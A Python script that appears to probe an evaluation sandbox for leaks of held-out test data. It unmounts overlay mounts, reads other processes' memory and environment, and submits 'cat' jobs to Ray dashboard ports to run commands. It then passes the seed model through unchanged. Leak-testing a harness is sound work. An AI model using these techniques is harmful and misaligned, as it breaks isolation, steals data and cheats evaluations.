"""A program of kind `command` that looks for a held-out row wherever it can look, and prints where it found it.

`REVERSED` holds what to look for, spelt backwards so that it is nowhere else; `PORTS` what may listen; `ROOTS` where
to look in the file system (all of it but for what the operating system and Python have installed).
"""

import ctypes
import json
import os
import shutil
import socket
import stat
import sys
import zlib
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

WANTED = [text[::-1].encode() for text in os.environ["REVERSED"].split("|")]
PORTS = [int(port) for port in os.environ.get("PORTS", "").split(",") if port]
ROOTS = os.environ.get("ROOTS", "/").split(":")
INSTALLED = ("/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/sys", "/proc", sys.prefix, sys.base_prefix)
MOST_BYTES = 64 * 2**20
JOB = json.dumps({"entrypoint": f"cat {os.environ.get('HELD_OUT', '')}"}).encode()
found: set[str] = set()


def look(where: str, content: bytes) -> None:
    """Is it there, as it is or compressed as git does?"""
    with suppress(zlib.error):
        content += zlib.decompress(content)
    found.update(f"{number}: {where}" for number, text in enumerate(WANTED) if text in content)


def read(file: str) -> None:
    with suppress(OSError), open(file, "rb") as stream:
        look(file, stream.read(MOST_BYTES))


def every_file() -> Iterator[str]:
    for root in ROOTS:
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in INSTALLED]
            yield from (os.path.join(folder, name) for name in files)


def files() -> None:
    """Every file, whatever it is; what is a socket answers perhaps."""
    for file in every_file():
        with suppress(OSError):
            mode = os.stat(file).st_mode
            if stat.S_ISSOCK(mode):
                folder = os.open(os.path.dirname(file), os.O_RDONLY)  # the whole path may be too long for a socket
                ask(socket.AF_UNIX, f"/proc/self/fd/{folder}/{os.path.basename(file)}", file)
                os.close(folder)
            elif stat.S_ISREG(mode):
                with suppress(OSError):
                    os.chmod(file, 0o644)
                read(file)


def uncover() -> None:
    """Take away whatever has been mounted over something, by every way there is."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER, CLONE_NEWNS
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        if not (place := line.split()[4]).startswith(INSTALLED):
            libc.umount2(place.encode(), 2)


def processes() -> None:
    """What other processes were told, hold open, and have in their memory."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for name in ("environ", "cmdline"):
            read(f"/proc/{pid}/{name}")
        with suppress(OSError):
            for descriptor in os.listdir(f"/proc/{pid}/fd"):
                if stat.S_ISREG(os.stat(f"/proc/{pid}/fd/{descriptor}").st_mode):
                    read(f"/proc/{pid}/fd/{descriptor}")
        with suppress(OSError), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last = (int(end, 16) for end in line.split()[0].split("-"))
                with suppress(OSError, ValueError, OverflowError):
                    memory.seek(first)
                    look(f"memory of {pid}", memory.read(min(last - first, MOST_BYTES)))


def sockets() -> None:
    """Whoever listens on this machine, Ray's head among them: does it say it, or run a job that does?"""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        if (parts := line.split())[7:]:
            ask(socket.AF_UNIX, parts[7].replace("@", "\0"))
    hosts = {"127.0.0.1", "::1", socket.gethostname()}
    for host in hosts:
        for port in {*PORTS, 6379, 8265, 10001}:
            ask(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, port))


def ask(family: int, address: object, name: object = None) -> None:
    """Send a job to whoever listens there, and hear what it says."""
    with suppress(OSError), socket.socket(family) as channel:
        channel.settimeout(2)
        channel.connect(address)
        heading = f"POST /api/jobs/ HTTP/1.1\r\nHost: a\r\nContent-Length: {len(JOB)}\r\n"
        channel.sendall(f"{heading}Content-Type: application/json\r\n\r\n".encode() + JOB)
        answer = b""
        with suppress(OSError):
            answer = channel.recv(2**16)
        look(f"{name or address!r}", answer)
        if b"submission_id" in answer:
            found.add(f"0: {address!r} runs my jobs")


look("my environment", repr(os.environ).encode())
uncover()
files()
processes()
sockets()
print(json.dumps(sorted(found)))
shutil.copytree(os.environ["BRIEF_SEED_MODEL"], os.environ["BRIEF_OUTPUT_DIR"], dirs_exist_ok=True)
